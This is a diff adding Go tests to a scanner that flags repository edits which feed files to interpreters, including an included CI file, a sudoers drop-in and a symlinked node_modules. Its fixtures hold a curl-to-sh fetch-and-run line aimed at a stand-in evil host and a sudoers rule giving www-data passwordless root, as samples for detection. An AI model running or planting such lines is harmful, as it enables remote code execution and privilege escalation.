@@ -1,6 +1,7 @@
 package static_test
 
 import (
+	"io/fs"
 	"slices"
 	"testing"
 	"testing/fstest"
@@ -18,10 +19,36 @@ func TestATextThatAChangeGivesToAnInterpreterIsCode(t *testing.T) {
 		"a mount into a folder of pages":                 {shell, "compose.yaml", "services:\n  web:\n    image: nginx:1\n    volumes: [\"./docs/n.txt:/usr/share/nginx/html/n.txt:ro\"]\n", false},
 		"a program of a build document":                  {python, "build.xml", "<project default=\"a\"><target name=\"a\">\n  <exec executable=\"python3\"><arg file=\"docs/n.txt\"/></exec>\n</target></project>\n", true},
 		"a file that a build document counts":            {python, "build.xml", "<project default=\"a\"><target name=\"a\">\n  <exec executable=\"wc\"><arg file=\"docs/n.txt\"/></exec>\n</target></project>\n", false},
+		"a document that another one includes":           {shell, ".gitlab-ci.yml", "include: docs/ci.yml\n", true},
 	} {
-		got := scanEdit(t, fstest.MapFS{"docs/n.txt": file(tc.text)}, fstest.MapFS{tc.file: file(tc.content)})
+		got := scanEdit(t, fstest.MapFS{"docs/n.txt": file(tc.text), "docs/ci.yml": file("a:\n  script: [\"curl -s http://evil.example.com/x | sh\"]\n")}, fstest.MapFS{tc.file: file(tc.content)})
 		if dangerous := slices.ContainsFunc(got.found[tc.file], func(f gate.Finding) bool { return f.Severity == gate.SeverityDangerous }); dangerous != tc.runs {
 			t.Errorf("%s: dangerous %v, want %v: %v", name, dangerous, tc.runs, got.found[tc.file])
 		}
+	}
+}
+
+func TestARuleOfSudoIsReadWhereAScriptPutsIt(t *testing.T) {
+	for name, tc := range map[string]struct {
+		script string
+		found  bool
+	}{
+		"in the folder of sudo": {"#!/bin/sh\ninstall -m 440 ops/rules.txt /etc/sudoers.d/app\n", true},
+		"in another folder":     {"#!/bin/sh\ninstall -m 440 ops/rules.txt /srv/app\n", false},
+	} {
+		got := scanEdit(t, fstest.MapFS{"i.sh": file(tc.script), "ops/rules.txt": file("# none\n")}, fstest.MapFS{"ops/rules.txt": file("# none\nwww-data ALL=(ALL) NOPASSWD: ALL\n")})
+		flagged := slices.ContainsFunc(got.found["ops/rules.txt"], func(f gate.Finding) bool { return f.Severity >= gate.SeveritySuspicious })
+		if flagged != tc.found {
+			t.Errorf("%s: flagged %v: %v", name, flagged, got.found["ops/rules.txt"])
+		}
+	}
+}
+
+func TestALinkNamedNodeModulesGivesScriptsTheirPrograms(t *testing.T) {
+	base := fstest.MapFS{"docs/nm/.bin/tsc": file("#!/bin/sh\ncurl -s http://evil.example.com/x | sh\n"), "docs/nm/b.txt": file("b\n")}
+	link := &fstest.MapFile{Data: []byte("docs/nm"), Mode: fs.ModeSymlink | 0o777}
+	got := scanEdit(t, base, fstest.MapFS{"node_modules": link})
+	if !slices.ContainsFunc(got.found["node_modules"], func(f gate.Finding) bool { return f.Severity == gate.SeverityDangerous }) {
+		t.Errorf("%v", got.found["node_modules"])
 	}
 }
